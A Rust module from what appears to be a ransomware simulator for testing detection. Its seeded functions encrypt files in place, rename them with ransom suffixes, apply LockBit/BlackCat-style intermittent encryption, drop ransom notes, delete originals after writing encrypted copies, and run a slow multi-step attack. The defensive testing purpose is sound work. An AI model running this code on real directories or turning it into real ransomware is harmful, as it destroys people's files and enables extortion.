//! Attack behaviours. Files are chosen by a seeded draw over the sorted file list and
//! processed in sorted order, so the same seed gives the same result on the same tree.

use std::io;
use std::path::Path;

use rand::Rng;
use rand_chacha::ChaCha20Rng;

use crate::{list_files, rng_for, select, write_file, xor_keystream, Naming, Report, Suffix};

/// Stripe of intermittent encryption (the block size LockBit/BlackCat-style modes use).
const STRIPE: usize = 64 * 1024;

/// Note names, one per attack run; the last is the Japanese variant seen in Japan.
const NOTE_NAMES: &[&str] = &[
    "README_FOR_DECRYPT.txt",
    "HOW_TO_DECRYPT.html",
    "!!!READ_ME!!!.txt",
    "restore-my-files.txt",
    "HOW_TO_DECRYPT.hta",
    "ファイルを復元する方法.txt",
];

fn random_word(rng: &mut ChaCha20Rng, len: usize) -> String {
    (0..len)
        .map(|_| char::from(b'a' + rng.gen_range(0..26u8)))
        .collect()
}

fn suffix(rng: &mut ChaCha20Rng, s: Suffix) -> String {
    match s {
        Suffix::Locked => "locked".into(),
        Suffix::Encrypted => "encrypted".into(),
        Suffix::Random => random_word(rng, 6),
    }
}

fn chosen(root: &Path, share: f64, seed: u64) -> io::Result<Vec<String>> {
    let files = list_files(root)?;
    Ok(select(&files, share, &mut rng_for(seed, "select")))
}

fn encrypt_file(root: &Path, rel: &str, key: &mut ChaCha20Rng) -> io::Result<()> {
    let path = root.join(rel);
    let mut data = std::fs::read(&path)?;
    xor_keystream(&mut data, key);
    // Overwrite in place (same inode), as in-place ransomware does.
    std::fs::write(&path, &data)
}

/// Whole-file encryption of `share` of the files, names kept.
pub(crate) fn encrypt_in_place(root: &Path, share: f64, seed: u64) -> io::Result<Report> {
    let files = chosen(root, share, seed)?;
    let mut key = rng_for(seed, "key");
    for f in &files {
        encrypt_file(root, f, &mut key)?;
    }
    Ok(Report {
        touched: files,
        ..Report::default()
    })
}

/// Whole-file encryption, then a rename adding `.suffix`.
pub(crate) fn encrypt_rename(root: &Path, share: f64, seed: u64, s: Suffix) -> io::Result<Report> {
    let files = chosen(root, share, seed)?;
    let mut key = rng_for(seed, "key");
    let mut names = rng_for(seed, "names");
    let mut renamed = Vec::new();
    for f in &files {
        encrypt_file(root, f, &mut key)?;
        let to = format!("{f}.{}", suffix(&mut names, s));
        std::fs::rename(root.join(f), root.join(&to))?;
        renamed.push((f.clone(), to));
    }
    Ok(Report {
        touched: files,
        renamed,
        ..Report::default()
    })
}

/// Intermittent encryption: every other 64 KiB block starting with the first (`head` =
/// None), or only the first `head` KiB.
pub(crate) fn intermittent(
    root: &Path,
    share: f64,
    seed: u64,
    head: Option<usize>,
) -> io::Result<Report> {
    let files = chosen(root, share, seed)?;
    let mut key = rng_for(seed, "key");
    for f in &files {
        let path = root.join(f);
        let mut data = std::fs::read(&path)?;
        match head {
            Some(kib) => {
                let n = (kib * 1024).min(data.len());
                xor_keystream(&mut data[..n], &mut key);
            }
            None => {
                for block in data.chunks_mut(STRIPE).step_by(2) {
                    xor_keystream(block, &mut key);
                }
            }
        }
        std::fs::write(&path, &data)?;
    }
    Ok(Report {
        touched: files,
        ..Report::default()
    })
}

/// A ransom note in the folder of each selected file (one name per run).
pub(crate) fn ransom_notes(root: &Path, share: f64, seed: u64) -> io::Result<Report> {
    let files = chosen(root, share, seed)?;
    let mut rng = rng_for(seed, "notes");
    let name = NOTE_NAMES[rng.gen_range(0..NOTE_NAMES.len())];
    let mut folders: Vec<&str> = files
        .iter()
        .map(|f| f.rfind('/').map_or("", |i| &f[..i]))
        .collect();
    folders.sort_unstable();
    folders.dedup();
    let text = "Your files are encrypted. すべてのファイルは暗号化されました。\n\
                Contact us with your ID to restore them.\n";
    let mut created = Vec::new();
    for folder in folders {
        let rel = if folder.is_empty() {
            name.to_string()
        } else {
            format!("{folder}/{name}")
        };
        write_file(root, &rel, text.as_bytes())?;
        created.push(rel);
    }
    Ok(Report {
        created,
        ..Report::default()
    })
}

/// Encrypted copies written as new files (new inodes), originals deleted.
pub(crate) fn copy_encrypt_delete(
    root: &Path,
    share: f64,
    seed: u64,
    naming: Naming,
) -> io::Result<Report> {
    let files = chosen(root, share, seed)?;
    let mut key = rng_for(seed, "key");
    let mut names = rng_for(seed, "names");
    let mut created = Vec::new();
    for f in &files {
        let mut data = std::fs::read(root.join(f))?;
        xor_keystream(&mut data, &mut key);
        let to = match naming {
            Naming::Appended(s) => format!("{f}.{}", suffix(&mut names, s)),
            Naming::RandomName => {
                let dir = f.rfind('/').map_or("", |i| &f[..=i]);
                format!("{dir}{}.crypt", random_word(&mut names, 10))
            }
        };
        write_file(root, &to, &data)?;
        std::fs::remove_file(root.join(f))?;
        created.push(to);
    }
    Ok(Report {
        touched: files.clone(),
        created,
        deleted: files,
        ..Report::default()
    })
}

/// Step `step` (0-based) of a slow attack in `steps` steps that encrypts `share` of the
/// files in total, in place: each step encrypts its own slice of one seeded permutation
/// of the files present now, so steps never overlap as long as no file is added or
/// removed between them (benign edits of existing files are fine).
pub fn slow_attack_step(
    root: &Path,
    step: usize,
    steps: usize,
    share: f64,
    seed: u64,
) -> io::Result<Report> {
    use rand::seq::SliceRandom;
    let mut files = list_files(root)?;
    files.shuffle(&mut rng_for(seed, "slow"));
    let share = if share.is_finite() {
        share.clamp(0.0, 1.0)
    } else {
        0.0
    };
    let steps = steps.max(1);
    let total = ((files.len() as f64) * share).ceil() as usize;
    let per = total.div_ceil(steps);
    let start = (step * per).min(total);
    let end = ((step + 1) * per).min(total);
    let mut slice: Vec<String> = files[start..end].to_vec();
    slice.sort();
    let mut key = rng_for(seed ^ step as u64, "slow-key");
    for f in &slice {
        encrypt_file(root, f, &mut key)?;
    }
    Ok(Report {
        behaviour: format!("SlowAttack step {}/{steps}", step + 1),
        touched: slice,
        ..Report::default()
    })
}
